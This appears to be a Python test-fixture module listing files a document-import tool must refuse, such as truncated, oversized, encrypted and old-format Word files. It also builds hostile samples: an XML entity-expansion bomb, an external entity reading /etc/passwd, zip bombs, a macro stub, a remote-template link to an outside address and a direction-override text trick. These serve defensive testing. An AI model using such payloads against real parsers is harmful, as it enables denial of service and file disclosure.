"""Files that nobody should send, each with its name, how to make it, and what is said of it."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.formats.word.making import docx, p, r

HUNDRED_MB = 100 * 2**20
GOOD = docx(p(r("1. States meet.")))
AKN = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BOMB = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY c SYSTEM "file:///etc/passwd">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Refused:
    """A file that is refused, and words of the sentence that says so; `is_word` says that it would pass for Word."""

    name: str
    make: Callable[[], bytes]
    sentence: str
    is_word: bool = True


def packed(document: bytes, name: str = "word/document.xml") -> bytes:
    """A zip file with one part."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, document)
    return made.getvalue()


def document(head: str) -> bytes:
    """A Word file whose document begins with this."""
    return packed(f'{head}<w:document xmlns:w="{W}"><w:body><w:p>&c;</w:p></w:body></w:document>'.encode())


def akn(head: str, words: str = "&c;") -> bytes:
    """An Akoma Ntoso file that begins with this."""
    inside = f"<doc><mainBody><p>{words}</p></mainBody></doc>"
    return f'{head}<akomaNtoso xmlns="{AKN}">{inside}</akomaNtoso>'.encode()


def locked() -> bytes:
    """A Word file whose part is encrypted, as far as its header says."""
    data = bytearray(packed(b"<a/>"))
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.index(mark) + at
        data[place : place + 2] = b"\x01\x00"
    return bytes(data)


REFUSED = (
    Refused("cut.docx", lambda: GOOD[: len(GOOD) // 2], "cut.docx is cut off or damaged"),
    Refused("cut-early.docx", lambda: GOOD[:40], "cut-early.docx is cut off or damaged"),
    Refused("swells.docx", lambda: packed(b" " * 60 * 2**20), "would unpack to 62,914,560 bytes"),
    Refused("swells-fast.docx", lambda: packed(b"\0" * 10 * 2**20), "would unpack to 10,485,760 bytes"),
    Refused("entities.docx", lambda: document(BOMB), "declares a document type"),
    Refused("outside.docx", lambda: document(OUTSIDE), "declares a document type"),
    Refused("entities.xml", lambda: akn(BOMB), "declares a document type", is_word=False),
    Refused("outside.xml", lambda: akn(OUTSIDE), "declares a document type", is_word=False),
    Refused("words.docx", lambda: b"1. States meet.\n", "words.docx is no Word file"),
    Refused("sheet.docx", lambda: packed(b"<a/>", "xl/workbook.xml"), "is a spreadsheet, not a Word file"),
    Refused("locked.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "is protected by a password"),
    Refused("locked-part.docx", locked, "is protected by a password"),
    Refused("old.docx", lambda: OLE + b"\0" * 600, "is in the old Word format"),
    Refused("huge.docx", lambda: b"PK\x03\x04" + bytes(HUNDRED_MB), "more than"),
    Refused("huge.txt", lambda: b"1. States meet.\n" * (HUNDRED_MB // 16), "more than", is_word=False),
    Refused("redline.pdf", lambda: b"%PDF-1.7\n...", "flattened typography has lost which words were deleted"),
    Refused("redline.docx", lambda: b"%PDF-1.7\n...", "flattened typography has lost which words were deleted"),
    Refused("nul.txt", lambda: b"1. States\0 meet.\n", "byte 10 is NUL", is_word=False),
    Refused("nul.xml", lambda: akn("", "\0"), "is damaged", is_word=False),
    Refused("nul.docx", lambda: packed(f'<w:document xmlns:w="{W}">\0</w:document>'.encode()), "is damaged"),
)

MACROS = docx(p(r("1. States meet.")), files={"word/vbaProject.bin": OLE + b"Sub AutoOpen()"})
LINKS = docx(
    p('<w:hyperlink r:id="rL"><w:r><w:t>1. States meet.</w:t></w:r></w:hyperlink>'),
    files={
        "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="t" Type="http://x/attachedTemplate" Target="http://203.0.113.1/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    },
)
MIXED = "1. States [shall] رسميا تعلن [عن المسيرات] meet.\n\n2. שלום and la paix re\u0301gne, Vie\u0302\u0323t.\n"
"""Words in both directions, and letters with accents of their own."""
TURNED = "1. States \u202eteem\u202c meet.\n"
"""Words that a direction mark makes look other than they are."""
